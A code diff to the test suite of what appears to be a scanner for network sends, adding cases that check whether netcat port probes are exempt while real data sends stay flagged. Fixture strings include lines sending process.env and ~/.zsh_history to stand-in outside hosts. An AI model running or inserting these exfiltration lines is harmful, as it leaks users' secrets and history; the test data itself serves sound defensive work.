@@ -58,6 +58,24 @@ const cases: Case[] = [
     text: "import net from 'node:net';\nconst s = net.connect(7000, 'relay.example-stats.net');\ns.write(JSON.stringify(process.env));\n",
     expect: [['E1', 2]],
   },
+  {
+    name: 'no E1: nc -z waits for a database port (zero-I/O mode sends nothing)',
+    path: 'scripts/wait_pg.sh',
+    text: '#!/bin/sh\nfor n in 1 2 3 4 5; do nc -z -w 2 pg.example-corp.internal 5432 && exit 0; sleep 2; done\nexit 1\n',
+    absent: ['E1'],
+  },
+  {
+    name: 'no E1: nc -vz checks that an HTTPS port answers',
+    path: 'scripts/preflight.sh',
+    text: '#!/bin/sh\nnc -vz -w 3 api.example-vendor.com 443 || echo "vendor API unreachable"\n',
+    absent: ['E1'],
+  },
+  {
+    name: 'E1: nc that streams a file to an outside host is still a send',
+    path: 'scripts/send_log.sh',
+    text: '#!/bin/sh\nnc -w 5 logs.example-drop.net 9000 < ~/.zsh_history\n',
+    expect: [['E1', 2]],
+  },
 ];
 
 describe('round 2: network precision', () => {
